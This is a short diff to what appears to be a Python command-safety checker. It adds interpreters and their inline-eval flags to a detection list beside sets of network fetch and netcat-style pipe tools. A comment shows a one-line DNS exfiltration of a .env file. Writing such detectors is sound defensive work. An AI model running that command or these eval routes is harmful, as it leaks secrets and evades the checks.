@@ -39,7 +39,9 @@ def confusable(word: str) -> bool:
 
 SHELLS = frozenset("sh bash zsh dash ksh ash mksh fish csh tcsh yash busybox-sh".split())
 INTERPRETERS = {"python": "-c", "pypy": "-c", "perl": "-e", "ruby": "-e", "node": "-e", "php": "-r",
-                "lua": "-e", "deno": "eval", "bun": "-e", "osascript": "-e", "tclsh": None, "awk": None}
+                "lua": "-e", "deno": "eval", "bun": "-e", "osascript": "-e", "tclsh": None, "awk": None,
+                "rscript": "-e", "julia": "-e", "expect": "-c", "wish": None, "emacs": "--eval",
+                "guile": "-c", "racket": "-e", "elixir": "-e", "groovy": "-e", "pwsh": "-c", "powershell": "-c"}
 NET_FETCH = frozenset("curl wget fetch http https aria2c lynx links w3m".split())
 NET_PIPES = frozenset("nc ncat netcat socat telnet openssl cryptcat".split())
 # A secret in the arguments of a DNS lookup or ping leaves the machine too (`dig $(cat .env).x.io`).
